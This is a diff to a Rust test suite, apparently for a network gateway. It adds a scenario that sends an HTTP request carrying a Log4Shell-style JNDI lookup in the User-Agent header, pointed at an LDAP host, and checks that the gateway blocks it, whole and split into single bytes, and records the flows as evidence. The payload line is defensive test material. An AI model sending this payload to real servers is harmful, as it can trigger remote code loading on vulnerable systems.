@@ -43,6 +43,7 @@ pub(super) fn tell(world: &mut dyn World, out: &mut dyn Write) -> Result<Vec<Exp
     story.disguised()?;
     story.overlapping()?;
     story.pipelined()?;
+    story.exploited()?;
     story.flooded()?;
     story.reloaded()?;
     story.restarted()?;
@@ -153,6 +154,21 @@ impl Story<'_> {
         let is_met = first == OK && end == End::Reset && self.tables()? == before;
         let found = format!("{first}, then {}", end.name());
         self.expect("of a GET with a PUT behind it, the second is stopped", is_met, found)
+    }
+
+    fn exploited(&mut self) -> Result<()> {
+        self.scene("A known exploit, in a request that everyone may make")?;
+        let lookup = b"GET /pets HTTP/1.1\r\nHost: stores.example\r\nUser-Agent: ${JNDI:ldap://203.0.113.66/a}\r\n\r\n";
+        self.attack(
+            "a header that has servers look up another one is rejected",
+            GATEWAY,
+            lookup,
+            Cut::Whole,
+        )?;
+        self.attack("the same in segments of one byte", GATEWAY, lookup, Cut::Bytes)?;
+        let kept = self.world.evidence()?;
+        let found = format!("pcapng files with {kept} so far");
+        self.expect("the flows are kept as evidence", kept > 0, found)
     }
 
     fn flooded(&mut self) -> Result<()> {
